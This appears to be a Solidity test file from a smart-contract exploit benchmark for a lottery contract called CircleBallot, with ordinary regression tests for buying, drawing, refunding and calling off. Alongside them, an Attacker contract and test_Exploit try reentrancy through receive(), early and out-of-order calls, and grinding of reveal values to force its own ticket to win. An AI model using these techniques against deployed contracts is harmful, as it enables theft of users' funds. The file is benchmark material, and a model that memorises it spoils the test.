// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CircleBallot.sol";

// assay-canary-a078a6b9-a5f3-4d44-81ad-78a6ed4da63c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

/// Holds one ticket of eleven and looks for a way to have it drawn.
contract Attacker {
    CircleBallot internal draw;
    uint256 internal mine;
    uint256 internal times;

    constructor(CircleBallot draw_) {
        draw = draw_;
    }

    receive() external payable {
        if (++times < 4) _try(abi.encodeCall(draw.collect, ()), 0);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(draw).call{value: value}(data);
    }

    function enter() external {
        mine = draw.ticketCount();
        _try(abi.encodeCall(draw.buy, (1)), 0.1 ether);
        _try(abi.encodeCall(draw.buy, (0)), 0);
        _try(abi.encodeCall(draw.buy, (2)), 0);
        // before its time
        _try(abi.encodeCall(draw.writeHash, ()), 0);
        _try(abi.encodeCall(draw.show, (draw.hidden())), 0);
        _try(abi.encodeCall(draw.callOff, ()), 0);
        _try(abi.encodeCall(draw.refund, ()), 0);
    }

    /// Between the last sale and the hash, and in every block after it.
    function look() external {
        _try(abi.encodeCall(draw.buy, (1)), address(this).balance >= 0.1 ether ? 0.1 ether : 0);
        _try(abi.encodeCall(draw.writeHash, ()), 0);
        bytes32 h = draw.drawHash();
        uint256 n = draw.ticketCount();
        // a number of one's own that draws the right ticket
        for (uint256 i = 0; i < 200; ++i) {
            if (uint256(keccak256(abi.encode(bytes32(i), h))) % n == mine) {
                _try(abi.encodeCall(draw.show, (bytes32(i))), 0);
                break;
            }
        }
        _try(abi.encodeCall(draw.show, (draw.hidden())), 0);
        _try(abi.encodeCall(draw.show, (blockhash(block.number - 1))), 0);
        _try(abi.encodeCall(draw.callOff, ()), 0);
        _try(abi.encodeCall(draw.refund, ()), 0);
        _try(abi.encodeCall(draw.collect, ()), 0);
    }
}

/// Takes no ether.
contract Mute {}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    bytes32 private constant NUMBER = keccak256("a page of the prompter's book");

    CircleBallot private draw;
    Attacker private tout;
    address private constant NELL = address(0x4E11);
    address private constant FUND = address(0xF00D);
    address private constant OTIS = address(0x0715);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_765_000_000);
        vm.roll(40_000);
        vm.deal(address(this), 1 ether);
        draw = new CircleBallot{value: 1 ether}(keccak256(abi.encode(NUMBER)), 50, FUND);
        tout = new Attacker(draw);
        vm.deal(address(tout), 0.1 ether);
        vm.deal(NELL, 1 ether);
        vm.deal(OTIS, 2 ether);
        vm.prank(NELL);
        draw.buy{value: 0.6 ether}(6);
        vm.prank(OTIS);
        draw.buy{value: 0.4 ether}(4);
    }

    function test_Regular() public {
        require(draw.ticketLimit() == 20 && draw.ticketCount() == 10, "sold");
        vm.prank(OTIS);
        (bool ok, ) = address(draw).call{value: 1.1 ether}(abi.encodeCall(draw.buy, (11)));
        require(!ok, "too many");
        vm.roll(40_051);
        vm.prank(OTIS);
        (ok, ) = address(draw).call{value: 0.1 ether}(abi.encodeCall(draw.buy, (1)));
        require(!ok, "sale is over");
        (ok, ) = address(draw).call(abi.encodeCall(draw.show, (NUMBER)));
        require(!ok, "no hash yet");
        vm.roll(40_062);
        draw.writeHash();
        bytes32 h = blockhash(40_060);
        require(draw.drawHash() == h, "of the block of the draw");
        vm.roll(40_070);
        (ok, ) = address(draw).call(abi.encodeCall(draw.writeHash, ()));
        require(!ok, "once");
        (ok, ) = address(draw).call(abi.encodeCall(draw.callOff, ()));
        require(!ok, "in time");
        draw.show(NUMBER);
        address winner = draw.holderOf(uint256(keccak256(abi.encode(NUMBER, h))) % 10);
        require(draw.claimable(winner) == 0.5 ether, "prize");
        uint256 before = winner.balance;
        vm.prank(winner);
        draw.collect();
        require(winner.balance == before + 0.5 ether, "collected");
        draw.collect();
        require(address(this).balance == 1.5 ether && address(draw).balance == 0, "the theatre's half and the bond");

        // another one, that is called off
        draw = new CircleBallot{value: 1 ether}(keccak256(abi.encode(NUMBER)), 50, FUND);
        vm.prank(NELL);
        draw.buy{value: 0.3 ether}(3);
        vm.prank(OTIS);
        draw.buy{value: 0.1 ether}(1);
        vm.roll(40_070 + 50 + 10 + 257);
        (ok, ) = address(draw).call(abi.encodeCall(draw.writeHash, ()));
        require(!ok, "out of reach");
        draw.callOff();
        before = NELL.balance;
        vm.prank(NELL);
        draw.refund();
        require(NELL.balance == before + 0.3 ether, "three tickets");
        vm.prank(NELL);
        (ok, ) = address(draw).call(abi.encodeCall(draw.refund, ()));
        require(!ok, "once each");
        require(draw.claimable(FUND) == 1 ether && draw.claimable(address(this)) == 0, "bond");
    }

    /// A draw with a bond of two ether, of which no ticket has been sold yet.
    function _unsold() private returns (CircleBallot other) {
        vm.deal(address(this), 2 ether);
        other = new CircleBallot{value: 2 ether}(keccak256(abi.encode(NUMBER)), 50, FUND);
    }

    function test_RefusesADrawWithoutABondOrAFund() public {
        vm.deal(address(this), 1 ether);
        vm.expectRevert(CircleBallot.BadCount.selector);
        new CircleBallot{value: 0.1 ether - 1}(keccak256(abi.encode(NUMBER)), 50, FUND);
        vm.expectRevert(CircleBallot.BadCount.selector);
        new CircleBallot{value: 1 ether}(keccak256(abi.encode(NUMBER)), 50, address(0));
    }

    function test_RefusesOtherCounts() public {
        CircleBallot other = _unsold();
        vm.deal(OTIS, 5 ether);
        vm.prank(OTIS);
        vm.expectRevert(CircleBallot.BadCount.selector);
        other.buy(0);
        vm.prank(OTIS);
        vm.expectRevert(CircleBallot.BadCount.selector);
        other.buy{value: 2.1 ether}(21);
        vm.prank(OTIS);
        vm.expectRevert(CircleBallot.BadCount.selector);
        other.buy{value: 0.2 ether - 1}(2);
    }

    function test_RefusesToWriteTooEarly() public {
        vm.roll(40_060);
        vm.expectRevert(CircleBallot.NotNow.selector);
        draw.writeHash();
    }

    function test_RefusesASecondDraw() public {
        vm.roll(40_062);
        draw.writeHash();
        draw.show(NUMBER);
        vm.expectRevert(CircleBallot.NotNow.selector);
        draw.show(NUMBER);
        vm.warp(block.timestamp + 4 days);
        vm.expectRevert(CircleBallot.NotNow.selector);
        draw.callOff();
    }

    function test_RefusesToShowTooLate() public {
        vm.roll(40_062);
        draw.writeHash();
        vm.warp(block.timestamp + 3 days + 1);
        vm.expectRevert(CircleBallot.NotNow.selector);
        draw.show(NUMBER);

        draw.callOff();
        require(draw.claimable(FUND) == 1 ether, "bond");
        vm.expectRevert(CircleBallot.NotNow.selector);
        draw.callOff();
    }

    function test_RefusesADrawOfNoTickets() public {
        CircleBallot other = _unsold();
        vm.roll(40_062);
        other.writeHash();
        vm.expectRevert(CircleBallot.NothingThere.selector);
        other.show(NUMBER);
        other.callOff();
        require(other.claimable(address(this)) == 2 ether, "the bond goes back");
        vm.expectRevert(CircleBallot.NotNow.selector);
        other.show(NUMBER);

        vm.roll(40_070);
        other = _unsold();
        vm.roll(40_070 + 51);
        other.callOff();
        vm.roll(40_070 + 61);
        vm.expectRevert(CircleBallot.NotNow.selector);
        other.writeHash();
    }

    function test_RefusesToPayWhatIsNotDue() public {
        vm.prank(NELL);
        vm.expectRevert(CircleBallot.NothingThere.selector);
        draw.refund();
        vm.prank(NELL);
        vm.expectRevert(CircleBallot.NothingThere.selector);
        draw.collect();

        address mute = address(new Mute());
        vm.deal(mute, 0.1 ether);
        vm.prank(mute);
        draw.buy{value: 0.1 ether}(1);
        vm.roll(40_060 + 257);
        draw.callOff();
        vm.prank(FUND);
        vm.expectRevert(CircleBallot.NothingThere.selector);
        draw.refund();
        vm.prank(mute);
        vm.expectRevert(CircleBallot.Refused.selector);
        draw.refund();
    }

    function exploit() public {
        tout.enter();
        vm.roll(40_055);
        tout.look();
        vm.roll(40_060);
        tout.look();
        for (uint256 i = 1; i <= 12; ++i) {
            vm.roll(40_060 + i);
            vm.warp(block.timestamp + 12);
            tout.look();
        }
        vm.roll(40_400);
        vm.warp(block.timestamp + 4 days);
        tout.look();
    }

    function test_Exploit() public {
        uint256 before = address(tout).balance;
        exploit();
        require(address(tout).balance >= before + 0.4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(draw);
    }

    function attacker() public view returns (address) {
        return address(tout);
    }
}
